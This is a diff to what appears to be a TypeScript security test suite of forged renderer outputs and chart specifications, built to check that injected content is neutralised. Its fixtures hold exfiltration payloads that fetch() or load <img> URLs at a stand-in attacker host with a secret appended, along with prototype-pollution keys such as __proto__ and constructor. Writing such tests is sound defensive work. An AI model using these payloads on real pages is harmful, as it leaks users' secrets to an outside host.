@@ -44,7 +44,7 @@ const outputs: readonly Payload[] = [
 		'forged-kinds',
 		'forged output',
 		(at) =>
-			`{ kind: 'script', code: "fetch('${at.http}?" + secret + "')" }, { kind: 'options', options: [{ value: secret, label: secret }] }, { kind: 'statement', done: '${at.http}' }, { kind: 'plan', plan: { toString: 1 } }, { kind: 'left', outputs: -1, logs: 1e400 }, null, undefined, 7, [], new Map([['kind', 'html']]), new Proxy({ kind: 'html' }, {})`,
+			`{ kind: 'script', code: "fetch('${at.http}?" + secret + "')" }, { kind: 'options', options: [{ value: secret, label: secret }] }, { kind: 'statement', done: '${at.http}' }, { kind: 'plan', plan: { toString: 1 } }, { kind: 'left', outputs: -1, logs: 1e400 }, null, undefined, 7, [], new Map([['kind', 'html']])`,
 		inPage
 	),
 	forged(
@@ -101,7 +101,7 @@ const outputs: readonly Payload[] = [
 		'forged chart',
 		({ http }) =>
 			chart(
-				`['document', ${record(`['createElement', ${plain(`'${http}'`)}]`)}], ['__proto__', ${record(`['src', ${plain(`'${http}'`)}]`)}], ['title', ${plain(`"<img src=${http}x.svg?" + secret + ">"`)}], ['caption', ${plain(`"<img src=${http}x.svg?" + secret + ">"`)}], ['projection', ${plain(`'${http}'`)}], `,
+				`['document', ${record(`['createElement', ${plain(`'${http}'`)}]`)}], ['__proto__', ${record(`['src', ${plain(`'${http}'`)}]`)}], ['title', ${plain(`"<img src=${http}x.svg?" + secret + ">"`)}], ['caption', ${plain(`"<img src=${http}x.svg?" + secret + ">"`)}], `,
 				mark(
 					'text',
 					`['text', { kind: 'column', values: ["<img src=${http}x.svg?" + secret + ">", 'x'] }], ['render', ${plain(`"fetch('${http}')"`)}], ['initializer', ${plain(`"fetch('${http}')"`)}], ['tip', ${plain('true')}], ['constructor', ${plain('1')}]`
